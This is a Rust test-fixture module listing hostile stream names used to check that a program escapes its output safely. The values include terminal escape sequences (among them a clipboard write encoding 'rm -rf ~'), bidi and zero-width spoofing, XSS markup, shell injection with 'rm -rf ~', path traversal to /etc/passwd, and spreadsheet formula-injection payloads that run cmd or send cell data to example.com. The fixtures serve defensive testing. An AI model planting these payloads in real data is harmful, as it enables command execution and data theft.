//! Texts that somebody could choose as a stream's name to fool a reader, a terminal or a spreadsheet: one
//! of each kind.

/// A name that is long, but that a service may well let through.
pub(crate) const LONG: usize = 10_000;

/// What [`crate::front::Front`] writes as bytes that are no UTF-8.
pub(crate) const BAD_BYTES: &str = "(bad bytes)";
/// What it writes as half of a surrogate pair, escaped.
pub(crate) const LONE_SURROGATE: &str = "(lone surrogate)";
/// What it writes as an escape character without escaping it, which JSON forbids.
pub(crate) const RAW_ESCAPE: &str = "(raw escape)";
/// What it writes as a zero byte within a string.
pub(crate) const RAW_NUL: &str = "(raw nul)";

/// Each kind with its name. No name is part of another's text.
pub(crate) fn all() -> Vec<(&'static str, String)> {
    let long = |c: &str| c.repeat(LONG);
    vec![
        ("plain", "plain_room".into()),
        ("c0", (1..0x20_u8).map(char::from).collect::<String>() + "c0\u{7f}"),
        ("c1", "c1\u{80}\u{84}\u{85}\u{8d}\u{90}\u{98}\u{9b}31m\u{9c}\u{9d}0;title\u{9c}\u{9e}\u{9f}".into()),
        ("nul", "nul\u{0}byte".into()),
        ("csi", "csi\u{1b}[2J\u{1b}[31m\u{1b}[1;1H\u{1b}[?1049l".into()),
        ("title", "osc\u{1b}]0;title\u{7}\u{1b}]2;title\u{1b}\\".into()),
        ("clipboard", "osc52\u{1b}]52;c;cm0gLXJmIH4=\u{7}".into()),
        ("link", "osc8\u{1b}]8;;http://example.com\u{1b}\\x\u{1b}]8;;\u{1b}\\".into()),
        ("dcs", "dcs\u{1b}P+q544e\u{1b}\\\u{1b}_Gx\u{1b}\\\u{1b}^x\u{1b}\\".into()),
        ("report", "report\u{1b}[6n\u{1b}[c\u{1b}[>q\u{5}".into()),
        ("charset", "charset\u{1b}(0\u{e}lqqk\u{f}\u{1b}c\u{1b}#8".into()),
        ("bidi", "room_\u{202e}gnp.exe\u{202c}\u{2066}x\u{2069}\u{200f}\u{61c}".into()),
        ("zero_width", "zero\u{200b}width\u{200d}\u{2060}\u{feff}\u{ad}\u{34f}\u{180e}\u{3164}".into()),
        ("tags", "tags\u{e0001}\u{e0072}\u{e006d}\u{e007f}".into()),
        ("selectors", "selector\u{fe0f}\u{fe0e}\u{e0100}".into()),
        ("separators", "lines\u{2028}next\u{2029}next\u{85}next\u{b}next\u{c}next".into()),
        ("line_ends", "lines\r\nsecond,line\n\"third\"\tline".into()),
        ("no_characters", "none\u{fffe}\u{ffff}\u{1ffff}\u{fdd0}\u{fff9}\u{fffb}".into()),
        ("marks", format!("z{}algo", "\u{301}\u{327}\u{489}\u{20dd}".repeat(500))),
        ("mark_first", format!("{}first", "\u{301}".repeat(40))),
        ("long", long("x") + "end"),
        ("long_wide", long("赛") + "end"),
        ("long_emoji", "👨\u{200d}👩\u{200d}👧".repeat(LONG / 10) + "end"),
        ("long_hostile", long("\u{1b}") + "end"),
        ("bad_bytes", format!("bad {BAD_BYTES} bytes")),
        ("lone_surrogate", format!("lone {LONE_SURROGATE} half")),
        ("raw_escape", format!("raw {RAW_ESCAPE}[2J escape")),
        ("raw_nul", format!("raw {RAW_NUL} nul")),
        ("markup", "<img src=x onerror=alert(1)>|![x](http://example.com)`*_~#@here www.example.com".into()),
        ("shell", "it's $(touch /tmp/x) `x` ; rm -rf ~ \\ \" | & \u{2019}".into()),
        ("option", "--version".into()),
        ("format", "%n%s%x {0} {} ${HOME} %00 ../../etc/passwd".into()),
    ]
}

/// What a spreadsheet may take for a formula: by each sign, behind blanks, in other widths, as it was used
/// against real ones.
pub(crate) const FORMULAS: [&str; 30] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u{a0}=1+1",
    "\u{3000}=1+1",
    "\u{200b}=1+1",
    "\u{feff}=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1:A9)",
    "﹦1+1",
    "﹢1+1",
    "﹣1+1",
    "﹫SUM(A1:A9)",
    "\u{2212}1+1",
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "=HYPERLINK(\"http://example.com/?\"&A1,\"click\")",
    "=IMPORTXML(CONCAT(\"http://example.com/?\",A1),\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "room;=1+1; @SUM(A1);-cmd|'/C calc'!A0",
    "room\",=1+1,\"",
];
